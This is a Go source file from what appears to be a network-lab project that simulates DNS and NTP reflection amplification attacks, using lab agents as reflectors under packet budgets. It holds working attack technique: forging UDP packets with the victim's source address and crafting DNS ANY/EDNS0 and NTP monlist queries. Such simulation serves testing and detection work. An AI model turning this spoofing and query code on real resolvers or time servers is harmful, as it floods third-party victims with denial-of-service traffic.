package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/platelet-sdn/platelet/lab/agent"
	"github.com/platelet-sdn/platelet/lab/wire"
)

// amplifyPort is the source port of the forged queries, and so where the
// answers arrive at the victim: none that anything else uses.
const amplifyPort = 6666

// reflectorsMost bounds how many hosts are asked.
const reflectorsMost = 4

// amplification is an attack by servers that answer short queries from a
// forged source with long answers. The servers are agents of ours on other
// hosts, which answer in the size and shape of the real ones.
type amplification struct {
	port    uint16
	rate    float64 // queries per second
	query   func() ([]byte, error)
	answers func(query []byte) [][]byte
	// factor is how many packets answer a query.
	factor uint64
}

// filter matches the queries and the answers.
func (amp amplification) filter(Roles) string {
	return fmt.Sprintf("udp and ((src port %d and dst port %d) or (src port %d and dst port %d))", amplifyPort, amp.port, amp.port, amplifyPort)
}

// play asks the reflectors in the victim's name until it is stopped.
func (amp amplification) play(ctx context.Context, s *Scene) error {
	ctx, cancel := context.WithCancel(ctx)
	var serving sync.WaitGroup
	defer serving.Wait()
	defer cancel()
	reflectors, err := amp.open(s)
	if err != nil {
		return err
	}
	failed := make(chan error, len(reflectors))
	for _, r := range reflectors {
		serving.Go(func() {
			if err := r.serve(ctx); err != nil && ctx.Err() == nil {
				failed <- err
				cancel()
			}
		})
	}
	asked, err := amp.ask(ctx, s, reflectors)
	settle(ctx, asked, reflectors)
	select {
	case failure := <-failed:
		return failure
	default:
		return err
	}
}

// open starts reflectors on hosts that are neither attacker nor victim, and
// on which the port is not in use.
func (amp amplification) open(s *Scene) ([]*reflector, error) {
	var out []*reflector
	var errs []error
	for _, node := range s.peers() {
		if len(out) == reflectorsMost || node == s.Attacker || node == s.Victim {
			continue
		}
		station, err := agent.In(s.Lab, node)
		if err != nil {
			return nil, errors.Join(err, closeAll(out))
		}
		conn, err := station.ListenUDP(netip.AddrPortFrom(station.Addr(), amp.port))
		if err != nil {
			errs = append(errs, err) // an honest server of the lab's own, which does not reflect
			continue
		}
		budget, err := agent.NewBudget(s.Packets*amp.factor, max(time.Second, s.Budget.Left()))
		if err != nil {
			return nil, errors.Join(err, conn.Close(), closeAll(out))
		}
		out = append(out, &reflector{scene: s, node: node, addr: station.Addr(), conn: conn, budget: budget, amp: amp})
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("no host is left to reflect: %w", errors.Join(errs...))
	}
	return out, nil
}

// settle lets the last questions be answered, unless the attack is to stop.
func settle(ctx context.Context, asked uint64, reflectors []*reflector) {
	deadline := time.Now().Add(time.Second)
	for time.Now().Before(deadline) {
		heard := uint64(0)
		for _, r := range reflectors {
			heard += r.heard.Load()
		}
		if heard >= asked || agent.Wait(ctx, 2*time.Millisecond) != nil {
			return
		}
	}
}

func closeAll(all []*reflector) error {
	var errs []error
	for _, r := range all {
		errs = append(errs, r.conn.Close())
	}
	return errors.Join(errs...)
}

// ask sends the forged queries, to one reflector after the other, and returns
// how many.
func (amp amplification) ask(ctx context.Context, s *Scene, reflectors []*reflector) (asked uint64, err error) {
	pace, err := s.pace(amp.rate)
	if err != nil {
		return 0, err
	}
	payload, err := amp.query()
	if err != nil {
		return 0, err
	}
	var targets []*wire.Template
	for _, r := range reflectors {
		p, err := s.path(ctx, 0, r.addr)
		if err != nil {
			return 0, err
		}
		p.Src = s.VictimAddr
		frame, err := p.UDP(amplifyPort, amp.port, payload)
		if err != nil {
			return 0, err
		}
		t, err := wire.NewTemplate(frame)
		if err != nil {
			return 0, err
		}
		targets = append(targets, t)
	}
	w, err := s.sender(0)
	if err != nil {
		return 0, err
	}
	book := &ledger{scene: s, action: agent.Action{
		Agent: s.From[0].Node, Action: "query", From: s.VictimAddr, Proto: "udp", Port: amp.port,
		Note: fmt.Sprintf("forged, to %d reflectors", len(reflectors)),
	}}
	defer book.close()
	for n := 0; ; n++ {
		if _, err := pace.Wait(ctx, 1); err != nil {
			return asked, err
		}
		t := targets[n%len(targets)]
		t.SetID(uint16(s.Rand.Uint32()))
		at := time.Now()
		sent, err := w.Send(t.Frame())
		if err != nil {
			return asked, err
		}
		asked += uint64(sent)
		book.add(at, sent, len(t.Frame()))
	}
}

// reflector answers whoever seems to ask.
type reflector struct {
	scene  *Scene
	node   string
	addr   netip.Addr
	conn   *agent.UDPConn
	budget *agent.Budget
	amp    amplification
	heard  atomic.Uint64 // questions that were dealt with
}

// serve answers until the end of the context or of its budget.
func (r *reflector) serve(ctx context.Context) error {
	defer r.conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = r.conn.SetReadDeadline(time.Unix(1, 0)) })
	defer stop()
	buf := make([]byte, 2048)
	book := &ledger{scene: r.scene, action: agent.Action{
		Agent: r.node, Action: "reflect", From: r.addr, To: r.scene.VictimAddr, Proto: "udp", Port: amplifyPort}, role: agent.Reflector}
	defer book.close()
	for {
		n, from, err := r.conn.ReadFrom(buf)
		if ctx.Err() != nil {
			return nil
		}
		if err != nil {
			return fmt.Errorf("reflector %s: %w", r.node, err)
		}
		if from.Port() != amplifyPort {
			continue
		}
		for _, answer := range r.amp.answers(buf[:n]) {
			if _, err := r.budget.Take(1); err != nil {
				return nil //nolint:nilerr // it has had its share
			}
			// A full queue, or an unreachable victim, loses answers.
			if sent, err := r.conn.WriteTo(answer, from); err == nil {
				book.add(time.Now(), 1, sent)
			} else if errors.Is(err, agent.ErrOutside) {
				return err
			}
		}
		r.heard.Add(1)
	}
}

// dnsAmplification asks open resolvers for everything about a name.
func dnsAmplification() amplification {
	return amplification{
		port: 53, rate: 2000, factor: 1,
		query: func() ([]byte, error) { return dnsMessage(nil) },
		answers: func(query []byte) [][]byte {
			// 1,200 octets of text stay in one packet; larger answers would
			// come in fragments.
			var texts [][]byte
			for range 5 {
				texts = append(texts, bytes.Repeat([]byte("amplify "), 30))
			}
			answer, err := dnsMessage(texts)
			if err != nil || len(query) < 2 {
				return nil
			}
			copy(answer, query[:2]) // the query's identification
			return [][]byte{answer}
		},
	}
}

// dnsMessage is a query of type ANY (255) with EDNS0, or its answer.
func dnsMessage(texts [][]byte) ([]byte, error) {
	name := []byte("records.lab.example")
	m := &layers.DNS{
		ID: 0x706c, RD: true, OpCode: layers.DNSOpCodeQuery, QDCount: 1, ARCount: 1,
		Questions:   []layers.DNSQuestion{{Name: name, Type: layers.DNSType(255), Class: layers.DNSClassIN}},
		Additionals: []layers.DNSResourceRecord{{Type: layers.DNSTypeOPT, Class: 4096}},
	}
	if texts != nil {
		m.QR, m.RA, m.ANCount = true, true, uint16(len(texts))
		for _, t := range texts {
			m.Answers = append(m.Answers, layers.DNSResourceRecord{Name: name, Type: layers.DNSTypeTXT, Class: layers.DNSClassIN, TTL: 300, TXTs: [][]byte{t}})
		}
	}
	buf := gopacket.NewSerializeBuffer()
	if err := m.SerializeTo(buf, gopacket.SerializeOptions{FixLengths: true}); err != nil {
		return nil, fmt.Errorf("DNS message: %w", err)
	}
	return buf.Bytes(), nil
}

// ntpAmplification asks time servers for the list of their last clients
// (monlist, mode 7, request 42): a hundred packets of six clients each in the
// worst case, ten of them here.
func ntpAmplification() amplification {
	const packets, items, item = 10, 6, 72
	header := func(response bool, sequence int) []byte {
		b := []byte{0x17, 0, 3, 42, 0, 0, 0, 0} // version 2, mode 7, implementation 3
		if response {
			b[0] |= 0x80
			if sequence < packets-1 {
				b[0] |= 0x40 // more follow
			}
			b[1] = byte(sequence)
			binary.BigEndian.PutUint16(b[4:], items)
			binary.BigEndian.PutUint16(b[6:], item)
		}
		return b
	}
	return amplification{
		port: 123, rate: 500, factor: packets,
		query: func() ([]byte, error) { return header(false, 0), nil },
		answers: func(query []byte) [][]byte {
			if len(query) < 4 || query[0]&7 != 7 || query[3] != 42 {
				return nil
			}
			var out [][]byte
			for n := range packets {
				out = append(out, slices.Concat(header(true, n), bytes.Repeat([]byte{0}, items*item)))
			}
			return out
		},
	}
}

// describe says what is sent and what comes back, for people.
func (amp amplification) describe(server string) string {
	query, err := amp.query()
	if err != nil {
		return server
	}
	answers, octets := amp.answers(query), 0
	for _, a := range answers {
		octets += len(a)
	}
	return strings.TrimSpace(fmt.Sprintf("%.0f queries/s of %d octets in the victim's name to %s, which answer with %d", amp.rate, len(query), server, octets))
}
